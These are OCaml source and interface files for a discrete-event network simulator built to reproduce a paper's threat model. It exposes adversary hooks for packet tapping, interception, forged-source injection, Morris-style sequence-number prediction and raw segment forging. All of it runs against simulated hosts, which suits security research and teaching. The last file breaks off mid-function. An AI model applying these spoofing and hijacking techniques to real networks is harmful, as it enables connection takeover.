(** The simulated network: datagram delivery between hosts, plus the hooks
    that realize the paper's threat model — "the protocols should be secure
    even if the network is under the complete control of an adversary."

    The adversary surface (used via {!Adversary}):
    - {e taps} observe every packet;
    - one {e interceptor} may drop, rewrite, or replace packets in flight;
    - {e injection} delivers forged packets with arbitrary source fields. *)

type t

type decision =
  | Deliver  (** pass the original through *)
  | Drop
  | Replace of Packet.t list  (** deliver these (possibly rewritten) instead *)

val create : ?latency:float -> ?seed:int64 -> ?telemetry:Telemetry.Collector.t -> Engine.t -> t
(** [telemetry] defaults to {!Telemetry.Collector.default}. The network
    points the collector's clock at the engine (telemetry time is
    simulation time) and attaches it to the engine for span settling.
    Every packet becomes a ["net.packet"] span — begun at transmission
    under the sending exchange's span context, finished at delivery
    (outcome ["ok"]) or drop (["dropped:<why>"]); receive handlers run
    inside the packet's span context so server-side spans nest under it. *)

val engine : t -> Engine.t
val telemetry : t -> Telemetry.Collector.t
val now : t -> float
(** True (engine) time. *)

val rng : t -> Util.Rng.t

val attach : t -> Host.t -> unit
(** Register a host's addresses for delivery.
    @raise Invalid_argument on address clashes. *)

val host_of_addr : t -> Addr.t -> Host.t option

val local_time : t -> Host.t -> float
(** The host's own clock reading, offset/drift included. *)

val listen : t -> Host.t -> port:int -> (Packet.t -> unit) -> unit
val unlisten : t -> Host.t -> port:int -> unit

val listening : t -> Addr.t -> port:int -> bool
(** Whether any handler is registered at this address/port — lets tests
    assert that ephemeral listeners are torn down. *)

val ephemeral_port : t -> int
(** Fresh high port, unique per network. *)

(** {1 Path MTU}

    Real datagram transports lose the tail of an oversized message; the
    paper's protocol lives on such datagrams. With an MTU configured, any
    packet whose payload exceeds the path MTU is delivered {e truncated}
    to exactly the MTU — the receiver sees a short, undecodable prefix
    (the PR-5 hardened decoders reject it cleanly). Truncation applies at
    the delivery choke point, so fault-plane duplicates/replacements and
    adversarial {!inject} obey the same physics. Each truncation bumps
    [net.packets.truncated] and [net.dropped.truncated] (the lost tail is
    the drop) and records a trace note. Unconfigured networks pay a
    single branch per delivery. *)

val set_mtu : t -> int option -> unit
(** Default MTU for every link ([None] = unlimited, the initial state).
    @raise Invalid_argument on an MTU below 16 bytes. *)

val set_link_mtu : t -> src:Addr.t -> dst:Addr.t -> int option -> unit
(** Directed per-link override; [Some _]/[None] here beats the default
    (so a link can be made unlimited under a finite default). *)

val path_mtu : t -> src:Addr.t -> dst:Addr.t -> int option
(** Effective MTU a datagram from [src] to [dst] is subject to. Senders
    use this to pre-judge whether a request can fit at all. *)

val send : t -> ?src:Addr.t -> sport:int -> dst:Addr.t -> dport:int -> Host.t -> bytes -> unit
(** [send net host payload ~sport ~dst ~dport] transmits from [host]
    (source address [?src] defaults to the host's primary address and must
    be one of the host's addresses — honest parties cannot forge). Packets
    traverse taps, the interceptor and the fault plane (if attached), then
    arrive after the network latency. Unroutable packets are dropped
    silently — traced, and counted under both [net.packets.dropped] and a
    per-reason [net.dropped.<reason>] counter (spaces slugged to dashes,
    e.g. [net.dropped.no-listener]). *)

val inject : t -> Packet.t -> unit
(** Adversarial transmission: arbitrary source, bypasses the interceptor
    {e and} the fault plane — the adversary is not subject to the weather,
    so replay/spoof experiments stay exact under chaos schedules. *)

val add_tap : t -> (Packet.t -> unit) -> unit
val set_interceptor : t -> (Packet.t -> decision) -> unit
val clear_interceptor : t -> unit

(** {1 Fault injection} *)

val attach_faults : t -> Faults.t -> unit
(** Subject delivery to a {!Faults} plane: every packet the interceptor
    passes (or substitutes) is planned through it. Faults fired while
    attached are mirrored into this network's telemetry registry as
    [fault.injected.<kind>] counters; fault drops finish the packet span
    with outcome ["dropped:fault:<kind>"]. With no plane attached the
    delivery path is unchanged. *)

val detach_faults : t -> unit
val faults : t -> Faults.t option

(** Tracing *)

type event =
  | Sent of float * Packet.t
  | Delivered of float * Packet.t
  | Dropped of float * Packet.t * string
  | Note of float * string

val note : t -> string -> unit
val events : t -> event list
(** Chronological. Bounded: the most recent ~65k events are retained (a
    load campaign would otherwise hold every packet alive); harness-scale
    runs sit far below the cap and see everything. Under a lightweight
    collector only {!note} events are recorded at all — the counters
    still tell the packet story. *)

val event_count : t -> int
(** Total events recorded since creation — monotone, unaffected by ring
    eviction, O(1). Use this (not [List.length (events t)]) to diff
    activity around a phase. *)

val pp_event : Format.formatter -> event -> unit
