(** Deterministic discrete-event engine. Time is in seconds. Events
    scheduled at equal times fire in scheduling order. *)

type t

val create : unit -> t
val now : t -> float

val attach_telemetry : t -> Telemetry.Collector.t -> unit
(** Register a collector whose spans this engine settles when its queue
    drains ({!run}, or {!run_until} reaching an empty queue): any span
    still open at that point can never be closed by a future event, so it
    is finished with outcome ["abandoned"] plus a [Warn] trace event —
    open spans never leak silently. [Net.create] attaches its collector
    automatically. Idempotent per collector. *)

val attached_telemetry : t -> Telemetry.Collector.t list

val schedule : t -> at:float -> (unit -> unit) -> unit
(** @raise Invalid_argument if [at] is in the past. *)

val schedule_after : t -> float -> (unit -> unit) -> unit

val schedule_batch : t -> (float * (unit -> unit)) list -> unit
(** Schedule a burst in one call: fires exactly as the same sequence of
    {!schedule} calls would (sequence numbers are taken in list order),
    but the heap is re-heapified once instead of sifting per event —
    O(n + m) for a batch of m. The loadgen ramp uses this.
    @raise Invalid_argument if any time is in the past. *)

val executed : t -> int
(** Events executed so far — the numerator of the load plane's
    [sim_events_per_wall_second]. *)

val run : ?strict_spans:bool -> t -> unit
(** Drain the queue, then settle attached collectors' spans.
    [strict_spans] (default [false]) instead treats a leaked span as a
    bug: @raise Failure naming the open spans (after abandoning them, so
    the dumped trace is still honest). *)

val run_until : t -> float -> unit
(** Fire everything scheduled at or before the given time, then set the
    clock to it. Spans are settled only if this empties the queue —
    a later event may still close a span that is open at [limit]. *)

val settle : t -> unit
(** Settle attached collectors' spans now, as a drained {!run} would:
    everything still open is finished as ["abandoned"] with a [Warn]
    trace event. {!run_until} deliberately leaves spans open while the
    queue is non-empty (a later event may close them), so a caller that
    stops mid-simulation and dumps the trace would otherwise leak
    never-finished spans — call this first. Settling a span an event
    would later have closed makes that close a no-op, so only settle
    when you are done observing. *)

val pending : t -> int
