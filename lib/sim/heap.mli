(** A classic array-backed binary min-heap — the event queue of the
    discrete-event engine, and the expiry queue of the replay cache (which
    is what bought the cache its O(log n) inserts; see the
    [replay_cache_stress] test for the budget it must meet). *)

type 'a t

val create : cmp:('a -> 'a -> int) -> 'a t
(** An empty heap ordered by [cmp] (negative means "closer to the top").
    The engine orders events by [(time, sequence)] so simultaneous events
    pop in schedule order — one of the two pillars of the simulator's
    determinism claim. *)

val push : 'a t -> 'a -> unit
(** O(log n): append and sift up. The backing array doubles as needed, so
    a realm-sized burst of scheduled events costs amortised O(1) space
    per push. *)

val push_many : 'a t -> 'a list -> unit
(** Bulk insert: equivalent to [List.iter (push t)] element for element —
    when [cmp] is a total order the observable pop sequence is identical —
    but a large batch is appended and re-heapified bottom-up, O(n + m)
    rather than O(m log n). The engine's bulk-schedule path (loadgen ramp
    bursts) rides on this. *)

val pop : 'a t -> 'a option
(** Remove and return the minimum, or [None] on an empty heap. O(log n):
    swap the last leaf to the root and sift down. *)

val peek : 'a t -> 'a option
(** The minimum without removing it — how the engine reads the next event
    time — or [None] on an empty heap. O(1). *)

val size : 'a t -> int
(** Live elements (not the backing-array capacity). O(1). *)

val is_empty : 'a t -> bool
(** [size t = 0] — the engine's run loop drains until this holds. *)
