(* The one-shot [finish] owns the listener: whichever of reply / final
   timeout wins removes the ephemeral-port handler before running its
   continuation, and the loser becomes a no-op. The old arrangement let a
   reply racing the final timeout fire [on_reply] after [on_timeout] —
   and under duplicate-prone networks a second copy of the reply could
   find the listener still registered. *)
let call net host ?src ?(timeout = 1.0) ?(retries = 0) ?(backoff = 2.0)
    ?(max_timeout = 8.0) ?(jitter = 0.1) ~dst ~dport payload ~on_reply
    ~on_timeout =
  let sport = Net.ephemeral_port net in
  let finished = ref false in
  let finish k =
    if not !finished then begin
      finished := true;
      Net.unlisten net host ~port:sport;
      k ()
    end
  in
  Net.listen net host ~port:sport (fun pkt -> finish (fun () -> on_reply pkt));
  let rec attempt n base =
    Net.send net ?src ~sport ~dst ~dport host payload;
    (* Seeded jitter desynchronizes a fleet of retransmitting clients; the
       draw comes from the network's stream, so runs stay reproducible. *)
    let wait =
      if jitter <= 0.0 then base
      else base *. (1.0 +. (Util.Rng.float (Net.rng net) (2.0 *. jitter) -. jitter))
    in
    Engine.schedule_after (Net.engine net) wait (fun () ->
        if not !finished then
          if n < retries then attempt (n + 1) (Float.min max_timeout (base *. backoff))
          else finish on_timeout)
  in
  attempt 0 timeout
