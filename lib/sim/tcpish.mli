(** A miniature connection-oriented transport, enough to reproduce two of
    the paper's points and to carry real traffic when a datagram cannot:

    - Morris's 1985 attack: with a {e predictable} initial sequence number,
      an off-path attacker can complete a handshake and speak one half of a
      "preauthenticated" connection without seeing any responses — and in a
      Kerberos world, "his attack would still work if accompanied by a
      stolen live authenticator";
    - connection hijacking: "an attacker can always wait until the
      connection is set up and authenticated, and then take it over",
      making the network address in the ticket worthless.

    Beyond the handshake it is a usable byte stream: payloads are
    segmented to the path MTU, reassembled in order at the receiver
    (sequence gaps are buffered and duplicate-acked, never silently
    dropped), and retransmitted on loss with seeded exponential backoff —
    so it composes with the {!Faults} plane. A sender that exhausts its
    retransmissions resets the connection ([tcpish.resets]); resets and
    FIN teardown fire the {!on_close} callback. Counters:
    [tcpish.retransmits], [tcpish.ooo_buffered], [tcpish.duplicates],
    [tcpish.resets]. *)

type isn_mode =
  | Predictable  (** old-BSD style: a coarse function of wall-clock time *)
  | Random_isn  (** drawn from the network RNG *)

type conn

val listen :
  Net.t -> Host.t -> port:int -> ?isn:isn_mode -> on_accept:(conn -> unit) -> unit -> unit
(** Accept connections on [port]. [on_accept] fires when the handshake
    completes; the server cannot tell a spoofed handshake from a real one. *)

val connect :
  Net.t ->
  Host.t ->
  ?src:Addr.t ->
  ?isn:isn_mode ->
  dst:Addr.t ->
  dport:int ->
  on_connected:(conn -> unit) ->
  unit ->
  conn
(** Open a connection; [on_connected] fires when the handshake completes.
    The connection is returned immediately so a caller can {!abort} an
    attempt that never completes. The SYN is retransmitted on loss. *)

val send : conn -> bytes -> unit
(** Queue [bytes] on the stream. The payload is split into as many
    segments as the path MTU requires (one, when no MTU is configured)
    and kept for retransmission until acknowledged. *)

val on_data : conn -> (bytes -> unit) -> unit
(** Raw in-order stream chunks, as segmented by the wire. *)

(** {1 Message framing}

    The cerberus-style TCP shape: each message is preceded by a 4-byte
    big-endian length. [send_message]/[on_message] layer this over the
    stream; a prefix torn across segments is simply buffered until
    complete, and an absurd length (> 1 MiB) resets the connection. *)

val send_message : conn -> bytes -> unit

val on_message : conn -> (bytes -> unit) -> unit
(** Replaces the {!on_data} handler with the reassembling one. *)

val close : conn -> unit
(** Graceful: sends FIN (retransmitted until acknowledged); the
    connection detaches once the peer acknowledges. Receiving is still
    possible until then. *)

val abort : conn -> unit
(** Immediate: sends RST and tears down. *)

val on_close : conn -> (reset:bool -> unit) -> unit
(** Fires once when the connection tears down — [reset:true] for a RST
    (sent or received, including retransmission exhaustion), [false] for
    an orderly FIN. *)

val established : conn -> bool

val peer : conn -> Addr.t * int
(** The address the connection {e appears} to come from — what an
    address-checking server trusts. *)

val local : conn -> Addr.t * int
val bytes_received : conn -> int
val bytes_sent : conn -> int

val predict_isn : Net.t -> isn_mode -> int
(** The attacker's computation: for [Predictable] this equals the ISN the
    target will choose right now; for [Random_isn] it is a blind guess. *)

(** Raw segment forging, for attack code. *)

type segment = {
  syn : bool;
  ack : bool;
  fin : bool;
  rst : bool;
  seq : int;
  ackno : int;
  body : bytes;
}

val header_overhead : int
(** Encoded size of a segment with an empty body. *)

val encode_segment : segment -> bytes
val decode_segment : bytes -> segment option
