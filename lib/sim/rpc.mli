(** Request/response helper over the datagram network: sends a request from
    an ephemeral port and hands the first reply to the continuation.
    UDP-shaped — the client retransmits on timeout, which is the behaviour
    that complicates server-side authenticator caching in the paper.

    Retransmission backs off exponentially: attempt [i] waits
    [min max_timeout (timeout * backoff^i)], each wait scaled by a seeded
    jitter factor in [1 ± jitter] drawn from the network's RNG stream.

    Exactly one of [on_reply] / [on_timeout] runs, exactly once, and the
    ephemeral-port listener is removed before it does: duplicate replies
    are suppressed, and a reply that loses the race with the final timeout
    is dropped at the (now unregistered) port instead of resurrecting the
    call. *)

val call :
  Net.t ->
  Host.t ->
  ?src:Addr.t ->
  ?timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  ?max_timeout:float ->
  ?jitter:float ->
  dst:Addr.t ->
  dport:int ->
  bytes ->
  on_reply:(Packet.t -> unit) ->
  on_timeout:(unit -> unit) ->
  unit
(** Defaults: [timeout] 1.0, [retries] 0, [backoff] 2.0, [max_timeout]
    8.0, [jitter] 0.1 (fraction; pass [0.0] for fixed waits). *)
