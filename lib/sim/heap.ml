type 'a t = { mutable data : 'a array; mutable len : int; cmp : 'a -> 'a -> int }

let create ~cmp = { data = [||]; len = 0; cmp }

let grow t x =
  let cap = Array.length t.data in
  if t.len = cap then begin
    let ncap = max 16 (2 * cap) in
    let ndata = Array.make ncap x in
    Array.blit t.data 0 ndata 0 t.len;
    t.data <- ndata
  end

let swap t i j =
  let tmp = t.data.(i) in
  t.data.(i) <- t.data.(j);
  t.data.(j) <- tmp

let rec sift_up t i =
  if i > 0 then begin
    let parent = (i - 1) / 2 in
    if t.cmp t.data.(i) t.data.(parent) < 0 then begin
      swap t i parent;
      sift_up t parent
    end
  end

let rec sift_down t i =
  let l = (2 * i) + 1 and r = (2 * i) + 2 in
  let smallest = ref i in
  if l < t.len && t.cmp t.data.(l) t.data.(!smallest) < 0 then smallest := l;
  if r < t.len && t.cmp t.data.(r) t.data.(!smallest) < 0 then smallest := r;
  if !smallest <> i then begin
    swap t i !smallest;
    sift_down t !smallest
  end

let push t x =
  grow t x;
  t.data.(t.len) <- x;
  t.len <- t.len + 1;
  sift_up t (t.len - 1)

(* Bulk insert. Small batches sift each element up as [push] would; a batch
   comparable to the live heap is cheaper to append wholesale and re-heapify
   bottom-up (O(len + batch) instead of O(batch log len)) — the loadgen ramp
   schedules tens of thousands of client starts in one call. Only the
   internal layout differs between the two strategies; with a total order
   (the engine's [(time, seq)]) the pop sequence is identical, which the
   property tests pin. *)
let push_many t xs =
  match xs with
  | [] -> ()
  | x :: _ ->
      let m = List.length xs in
      let cap = Array.length t.data in
      if t.len + m > cap then begin
        let ncap = max 16 (max (t.len + m) (2 * cap)) in
        let ndata = Array.make ncap x in
        Array.blit t.data 0 ndata 0 t.len;
        t.data <- ndata
      end;
      let start = t.len in
      List.iter
        (fun x ->
          t.data.(t.len) <- x;
          t.len <- t.len + 1)
        xs;
      if m < t.len / 8 then
        for i = start to t.len - 1 do
          sift_up t i
        done
      else
        for i = ((t.len - 2) / 2) downto 0 do
          sift_down t i
        done

let peek t = if t.len = 0 then None else Some t.data.(0)

let pop t =
  if t.len = 0 then None
  else begin
    let top = t.data.(0) in
    t.len <- t.len - 1;
    if t.len > 0 then begin
      t.data.(0) <- t.data.(t.len);
      sift_down t 0
    end;
    Some top
  end

let size t = t.len
let is_empty t = t.len = 0
