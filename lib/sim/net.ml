type decision = Deliver | Drop | Replace of Packet.t list

type event =
  | Sent of float * Packet.t
  | Delivered of float * Packet.t
  | Dropped of float * Packet.t * string
  | Note of float * string

(* The event trace is a bounded ring: small harness runs (tests, demos,
   chaos determinism checks) stay far below the capacity and see every
   event; a million-request load campaign would otherwise accumulate an
   unbounded list and dominate memory. *)
let trace_capacity = 65_536

type t = {
  eng : Engine.t;
  latency : float;
  rng : Util.Rng.t;
  tel : Telemetry.Collector.t;
  hosts : (Addr.t, Host.t) Hashtbl.t;
  ports : (Addr.t * int, Packet.t -> unit) Hashtbl.t;
  mutable taps : (Packet.t -> unit) list;
  mutable interceptor : (Packet.t -> decision) option;
  mutable faults : Faults.t option;
  mutable next_uid : int;
  mutable next_port : int;
  (* Path MTU model: a default for every link plus per-(src,dst) overrides.
     [mtu_active] is the fast-path guard — unconfigured networks (the
     common case, and all of the load campaigns) take a single branch per
     delivery. *)
  mutable default_mtu : int option;
  link_mtus : (Addr.t * Addr.t, int option) Hashtbl.t;
  mutable mtu_active : bool;
  (* Per-packet counters, resolved once at [create] — the hot path never
     hashes a metric name. Per-reason drop counters are memoized below. *)
  c_sent : Telemetry.Metrics.counter;
  c_delivered : Telemetry.Metrics.counter;
  c_dropped : Telemetry.Metrics.counter;
  c_truncated : Telemetry.Metrics.counter;
  drop_counters : (string, Telemetry.Metrics.counter) Hashtbl.t;
  mutable ev_buf : event array;  (** ring; empty until the first record *)
  mutable ev_start : int;
  mutable ev_len : int;
  mutable ev_seen : int;  (** total recorded, monotone across eviction *)
}

let create ?(latency = 0.005) ?(seed = 1L) ?telemetry eng =
  let tel =
    match telemetry with Some c -> c | None -> Telemetry.Collector.default ()
  in
  (* Telemetry time is simulation time, never the wall clock. *)
  Telemetry.Collector.set_clock tel (fun () -> Engine.now eng);
  Engine.attach_telemetry eng tel;
  let m = Telemetry.Collector.metrics tel in
  { eng; latency; rng = Util.Rng.create seed; tel; hosts = Hashtbl.create 16;
    ports = Hashtbl.create 64; taps = []; interceptor = None; faults = None;
    next_uid = 0; next_port = 33000;
    default_mtu = None; link_mtus = Hashtbl.create 8; mtu_active = false;
    c_sent = Telemetry.Metrics.counter m "net.packets.sent";
    c_delivered = Telemetry.Metrics.counter m "net.packets.delivered";
    c_dropped = Telemetry.Metrics.counter m "net.packets.dropped";
    c_truncated = Telemetry.Metrics.counter m "net.packets.truncated";
    drop_counters = Hashtbl.create 8;
    ev_buf = [||]; ev_start = 0; ev_len = 0; ev_seen = 0 }

let engine t = t.eng
let now t = Engine.now t.eng
let rng t = t.rng
let telemetry t = t.tel

let record t ev =
  t.ev_seen <- t.ev_seen + 1;
  if Array.length t.ev_buf = 0 then t.ev_buf <- Array.make trace_capacity ev;
  let cap = Array.length t.ev_buf in
  if t.ev_len < cap then begin
    t.ev_buf.((t.ev_start + t.ev_len) mod cap) <- ev;
    t.ev_len <- t.ev_len + 1
  end
  else begin
    t.ev_buf.(t.ev_start) <- ev;
    t.ev_start <- (t.ev_start + 1) mod cap
  end

let note t msg =
  record t (Note (now t, msg));
  Telemetry.Collector.event t.tel ~component:"net" ~kind:"note" [ ("msg", msg) ]

let events t =
  List.init t.ev_len (fun i ->
      t.ev_buf.((t.ev_start + i) mod Array.length t.ev_buf))

let event_count t = t.ev_seen

let attach t host =
  List.iter
    (fun ip ->
      if Hashtbl.mem t.hosts ip then
        invalid_arg (Printf.sprintf "Net.attach: address %s already in use" (Addr.to_string ip));
      Hashtbl.replace t.hosts ip host)
    host.Host.ips

let host_of_addr t addr = Hashtbl.find_opt t.hosts addr

let local_time t host = Host.local_time host ~real:(now t)

let listen t host ~port fn =
  List.iter (fun ip -> Hashtbl.replace t.ports (ip, port) fn) host.Host.ips

let unlisten t host ~port =
  List.iter (fun ip -> Hashtbl.remove t.ports (ip, port)) host.Host.ips

let listening t addr ~port = Hashtbl.mem t.ports (addr, port)

let ephemeral_port t =
  t.next_port <- t.next_port + 1;
  t.next_port

let refresh_mtu_active t =
  t.mtu_active <-
    t.default_mtu <> None
    || Hashtbl.fold (fun _ v acc -> acc || v <> None) t.link_mtus false

let set_mtu t mtu =
  (match mtu with
  | Some m when m < 16 -> invalid_arg "Net.set_mtu: MTU below 16 bytes"
  | _ -> ());
  t.default_mtu <- mtu;
  refresh_mtu_active t

let set_link_mtu t ~src ~dst mtu =
  (match mtu with
  | Some m when m < 16 -> invalid_arg "Net.set_link_mtu: MTU below 16 bytes"
  | _ -> ());
  Hashtbl.replace t.link_mtus (src, dst) mtu;
  refresh_mtu_active t

let path_mtu t ~src ~dst =
  if not t.mtu_active then None
  else
    match Hashtbl.find_opt t.link_mtus (src, dst) with
    | Some override -> override
    | None -> t.default_mtu

let packet_attrs pkt =
  [ ("src", Printf.sprintf "%s:%d" (Addr.to_string pkt.Packet.src) pkt.Packet.sport);
    ("dst", Printf.sprintf "%s:%d" (Addr.to_string pkt.Packet.dst) pkt.Packet.dport);
    ("bytes", string_of_int (Bytes.length pkt.Packet.payload));
    ("uid", string_of_int pkt.Packet.uid) ]

(* Every packet is one span: begun at transmission (nested, via the
   context stack, under whatever exchange sent it) and finished at
   delivery or drop. The receiving handler runs inside the packet's span
   context, so server-side handling nests under the packet that caused
   it. Under a lightweight collector the four sprintf attrs are skipped —
   span_begin would drop them unused. *)
let begin_packet_span t pkt =
  if Telemetry.Collector.lightweight t.tel then
    Telemetry.Collector.span_begin t.tel ~component:"net" "net.packet"
  else
    Telemetry.Collector.span_begin t.tel ~component:"net" ~attrs:(packet_attrs pkt)
      "net.packet"

(* Every drop also bumps a per-reason counter ("no listener" →
   net.dropped.no-listener) so black holes show up in the metrics export,
   not just the trace. The slugged counter is resolved once per distinct
   reason, then served from the memo table. *)
let drop_reason_slug why = String.map (function ' ' -> '-' | c -> c) why

let drop_counter t why =
  match Hashtbl.find_opt t.drop_counters why with
  | Some c -> c
  | None ->
      let c =
        Telemetry.Metrics.counter
          (Telemetry.Collector.metrics t.tel)
          ("net.dropped." ^ drop_reason_slug why)
      in
      Hashtbl.add t.drop_counters why c;
      c

let drop_packet t span pkt why =
  if not (Telemetry.Collector.lightweight t.tel) then
    record t (Dropped (now t, pkt, why));
  Telemetry.Metrics.incr t.c_dropped;
  Telemetry.Metrics.incr (drop_counter t why);
  Telemetry.Collector.span_finish t.tel ~outcome:("dropped:" ^ why) span

(* MTU truncation is applied at the single delivery choke point so that
   everything obeys the same physics: honest sends, fault-plane duplicates
   and replacements, and adversarial [inject] alike. A datagram longer
   than the path MTU is delivered {e short} — the lost tail is the drop,
   so it rides the same [net.dropped.<reason>] vocabulary as injected
   loss, while the packet itself still counts as delivered. *)
let truncate_for_path t pkt =
  if not t.mtu_active then pkt
  else
    match path_mtu t ~src:pkt.Packet.src ~dst:pkt.Packet.dst with
    | Some mtu when Bytes.length pkt.Packet.payload > mtu ->
        Telemetry.Metrics.incr t.c_truncated;
        Telemetry.Metrics.incr (drop_counter t "truncated");
        if not (Telemetry.Collector.lightweight t.tel) then
          note t
            (Printf.sprintf "mtu: %d-byte datagram %s:%d -> %s:%d truncated to %d"
               (Bytes.length pkt.Packet.payload)
               (Addr.to_string pkt.Packet.src) pkt.Packet.sport
               (Addr.to_string pkt.Packet.dst) pkt.Packet.dport mtu);
        { pkt with Packet.payload = Bytes.sub pkt.Packet.payload 0 mtu }
    | _ -> pkt

let deliver ?(extra = 0.0) t span pkt =
  let pkt = truncate_for_path t pkt in
  Engine.schedule_after t.eng (t.latency +. extra) (fun () ->
      match Hashtbl.find_opt t.ports (pkt.Packet.dst, pkt.Packet.dport) with
      | Some fn ->
          if not (Telemetry.Collector.lightweight t.tel) then
            record t (Delivered (now t, pkt));
          Telemetry.Metrics.incr t.c_delivered;
          Telemetry.Collector.with_context t.tel span (fun () -> fn pkt);
          Telemetry.Collector.span_finish t.tel ~outcome:"ok" span
      | None -> drop_packet t span pkt "no listener")

(* The fault plane sits between the adversary and the wire: a packet the
   interceptor lets through (or substitutes) still has to survive the
   network itself. With no plane attached this is the old direct path. *)
let faulted_deliver t span pkt =
  match t.faults with
  | None -> deliver t span pkt
  | Some f -> (
      match Faults.plan f ~now:(now t) pkt with
      | Faults.Pass -> deliver t span pkt
      | Faults.Drop reason -> drop_packet t span pkt ("fault:" ^ reason)
      | Faults.Deliveries deliveries ->
          List.iteri
            (fun i (extra, payload) ->
              let p = { pkt with Packet.payload } in
              if i = 0 then deliver ~extra t span p
              else
                (* An injected duplicate is its own wire event: fresh span,
                   same parent exchange as the original. *)
                let sp =
                  Telemetry.Collector.span_begin t.tel ~component:"net"
                    ?parent:span.Telemetry.Span.parent
                    ~attrs:(("fault", "duplicate") :: packet_attrs p)
                    "net.packet"
                in
                deliver ~extra t sp p)
            deliveries)

let transmit t pkt =
  if not (Telemetry.Collector.lightweight t.tel) then record t (Sent (now t, pkt));
  Telemetry.Metrics.incr t.c_sent;
  let span = begin_packet_span t pkt in
  List.iter (fun tap -> tap pkt) t.taps;
  match t.interceptor with
  | None -> faulted_deliver t span pkt
  | Some f -> (
      match f pkt with
      | Deliver -> faulted_deliver t span pkt
      | Drop -> drop_packet t span pkt "intercepted"
      | Replace pkts ->
          drop_packet t span pkt "replaced in flight";
          (* Replacements nest where the original would have: an operator
             tracing the exchange sees the substitution inside it. *)
          List.iter
            (fun p ->
              let sp =
                Telemetry.Collector.span_begin t.tel ~component:"net"
                  ?parent:span.Telemetry.Span.parent
                  ~attrs:(("injected", "replace") :: packet_attrs p)
                  "net.packet"
              in
              faulted_deliver t sp p)
            pkts)

let send t ?src ~sport ~dst ~dport host payload =
  let src = match src with None -> Host.primary_ip host | Some s -> s in
  if not (List.exists (Addr.equal src) host.Host.ips) then
    invalid_arg "Net.send: source address not owned by sending host";
  t.next_uid <- t.next_uid + 1;
  transmit t { Packet.src; sport; dst; dport; payload; uid = t.next_uid }

let inject t pkt =
  t.next_uid <- t.next_uid + 1;
  let pkt = { pkt with Packet.uid = t.next_uid } in
  record t (Sent (now t, pkt));
  Telemetry.Metrics.incr t.c_sent;
  List.iter (fun tap -> tap pkt) t.taps;
  let span =
    Telemetry.Collector.span_begin t.tel ~component:"net"
      ~attrs:(("injected", "true") :: packet_attrs pkt)
      "net.packet"
  in
  deliver t span pkt

let add_tap t fn = t.taps <- t.taps @ [ fn ]
let set_interceptor t fn = t.interceptor <- Some fn
let clear_interceptor t = t.interceptor <- None

let attach_faults t f =
  t.faults <- Some f;
  Faults.set_on_fire f (fun kind ->
      Telemetry.Metrics.incr
        (Telemetry.Metrics.counter
           (Telemetry.Collector.metrics t.tel)
           ("fault.injected." ^ Faults.kind_name kind)))

let detach_faults t = t.faults <- None
let faults t = t.faults

let pp_event ppf = function
  | Sent (ts, p) -> Format.fprintf ppf "[%8.4f] send    %a" ts Packet.pp p
  | Delivered (ts, p) -> Format.fprintf ppf "[%8.4f] deliver %a" ts Packet.pp p
  | Dropped (ts, p, why) -> Format.fprintf ppf "[%8.4f] drop    %a (%s)" ts Packet.pp p why
  | Note (ts, msg) -> Format.fprintf ppf "[%8.4f] note    %s" ts msg
