type decision = Deliver | Drop | Replace of Packet.t list

type event =
  | Sent of float * Packet.t
  | Delivered of float * Packet.t
  | Dropped of float * Packet.t * string
  | Note of float * string

type t = {
  eng : Engine.t;
  latency : float;
  rng : Util.Rng.t;
  tel : Telemetry.Collector.t;
  hosts : (Addr.t, Host.t) Hashtbl.t;
  ports : (Addr.t * int, Packet.t -> unit) Hashtbl.t;
  mutable taps : (Packet.t -> unit) list;
  mutable interceptor : (Packet.t -> decision) option;
  mutable faults : Faults.t option;
  mutable next_uid : int;
  mutable next_port : int;
  mutable trace : event list;  (** reverse chronological *)
}

let create ?(latency = 0.005) ?(seed = 1L) ?telemetry eng =
  let tel =
    match telemetry with Some c -> c | None -> Telemetry.Collector.default ()
  in
  (* Telemetry time is simulation time, never the wall clock. *)
  Telemetry.Collector.set_clock tel (fun () -> Engine.now eng);
  Engine.attach_telemetry eng tel;
  { eng; latency; rng = Util.Rng.create seed; tel; hosts = Hashtbl.create 16;
    ports = Hashtbl.create 64; taps = []; interceptor = None; faults = None;
    next_uid = 0; next_port = 33000; trace = [] }

let engine t = t.eng
let now t = Engine.now t.eng
let rng t = t.rng
let telemetry t = t.tel

let record t ev = t.trace <- ev :: t.trace

let note t msg =
  record t (Note (now t, msg));
  Telemetry.Collector.event t.tel ~component:"net" ~kind:"note" [ ("msg", msg) ]

let events t = List.rev t.trace

let attach t host =
  List.iter
    (fun ip ->
      if Hashtbl.mem t.hosts ip then
        invalid_arg (Printf.sprintf "Net.attach: address %s already in use" (Addr.to_string ip));
      Hashtbl.replace t.hosts ip host)
    host.Host.ips

let host_of_addr t addr = Hashtbl.find_opt t.hosts addr

let local_time t host = Host.local_time host ~real:(now t)

let listen t host ~port fn =
  List.iter (fun ip -> Hashtbl.replace t.ports (ip, port) fn) host.Host.ips

let unlisten t host ~port =
  List.iter (fun ip -> Hashtbl.remove t.ports (ip, port)) host.Host.ips

let listening t addr ~port = Hashtbl.mem t.ports (addr, port)

let ephemeral_port t =
  t.next_port <- t.next_port + 1;
  t.next_port

let c_sent t = Telemetry.Metrics.counter (Telemetry.Collector.metrics t.tel) "net.packets.sent"
let c_delivered t = Telemetry.Metrics.counter (Telemetry.Collector.metrics t.tel) "net.packets.delivered"
let c_dropped t = Telemetry.Metrics.counter (Telemetry.Collector.metrics t.tel) "net.packets.dropped"

let packet_attrs pkt =
  [ ("src", Printf.sprintf "%s:%d" (Addr.to_string pkt.Packet.src) pkt.Packet.sport);
    ("dst", Printf.sprintf "%s:%d" (Addr.to_string pkt.Packet.dst) pkt.Packet.dport);
    ("bytes", string_of_int (Bytes.length pkt.Packet.payload));
    ("uid", string_of_int pkt.Packet.uid) ]

(* Every packet is one span: begun at transmission (nested, via the
   context stack, under whatever exchange sent it) and finished at
   delivery or drop. The receiving handler runs inside the packet's span
   context, so server-side handling nests under the packet that caused
   it. *)
let begin_packet_span t pkt =
  Telemetry.Collector.span_begin t.tel ~component:"net" ~attrs:(packet_attrs pkt)
    "net.packet"

(* Every drop also bumps a per-reason counter ("no listener" →
   net.dropped.no-listener) so black holes show up in the metrics export,
   not just the trace. *)
let drop_reason_slug why = String.map (function ' ' -> '-' | c -> c) why

let drop_packet t span pkt why =
  record t (Dropped (now t, pkt, why));
  Telemetry.Metrics.incr (c_dropped t);
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter
       (Telemetry.Collector.metrics t.tel)
